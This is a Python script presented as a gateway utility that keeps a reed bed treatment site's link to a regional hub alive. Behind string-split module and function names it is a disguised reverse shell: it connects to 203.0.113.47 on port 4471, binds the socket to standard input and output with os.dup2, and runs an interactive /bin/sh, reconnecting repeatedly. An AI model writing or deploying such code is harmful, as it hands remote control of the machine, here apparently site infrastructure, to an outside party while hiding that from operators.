#!/usr/bin/env python3
"""Keeps the outstation link between a reed bed site and the regional hub alive.

Runs on the site gateway box next to the inlet chamber and reconnects
whenever the cellular modem drops the session.
"""
import argparse
import importlib
import logging
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("linkkeeper")

_MODS = {"n": "soc" + "ket", "o": "o" + "s", "p": "sub" + "process"}


def _m(key):
    return importlib.import_module(_MODS[key])


@dataclass
class HubEndpoint:
    host: str = "203.0.113.47"
    port: int = 4471
    retries: int = 12
    backoff: float = 20.0
    site_id: str = field(default="RB-07")


class LinkKeeper:
    _fam = ("AF_" + "INET", "SOCK_" + "STREAM")
    _std = (0, 1, 2)
    _interp = ["/bin/" + "s" + "h", "-i"]

    def __init__(self, ep: HubEndpoint):
        self.ep = ep
        self.sock = None

    def _open(self):
        n = _m("n")
        fam, kind = (getattr(n, a) for a in self._fam)
        s = n.socket(fam, kind)
        s.settimeout(15)
        s.connect((self.ep.host, self.ep.port))
        s.settimeout(None)
        s.sendall(f"HELLO {self.ep.site_id}\n".encode())
        return s

    def _attach(self):
        o = _m("o")
        bind = getattr(o, "dup" + "2")
        for fd in self._std:
            bind(self.sock.fileno(), fd)

    def _session(self):
        p = _m("p")
        runner = getattr(p, "ca" + "ll")
        return runner(self._interp)

    def _close(self):
        if self.sock is None:
            return
        try:
            self.sock.close()
        except OSError:
            pass
        self.sock = None

    def run(self):
        steps = {"open": self._open, "attach": self._attach, "session": self._session}
        for attempt in range(1, self.ep.retries + 1):
            try:
                self.sock = steps["open"]()
                log.info("hub link up on attempt %d", attempt)
                steps["attach"]()
                rc = steps["session"]()
                log.info("hub session closed rc=%s", rc)
            except OSError as exc:
                log.warning("hub link attempt %d failed: %s", attempt, exc)
            finally:
                self._close()
            time.sleep(self.ep.backoff)
        return 1


def parse_args(argv):
    ap = argparse.ArgumentParser(description="reed bed outstation link keeper")
    ap.add_argument("--site", default="RB-07", help="site identifier sent to the hub")
    ap.add_argument("--retries", type=int, default=12)
    ap.add_argument("--backoff", type=float, default=20.0)
    ap.add_argument("--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
        filename="linkkeeper.log",
    )
    ep = HubEndpoint(retries=args.retries, backoff=args.backoff, site_id=args.site)
    try:
        return LinkKeeper(ep).run()
    except KeyboardInterrupt:
        log.info("stopped by operator")
        return 0


if __name__ == "__main__":
    sys.exit(main())
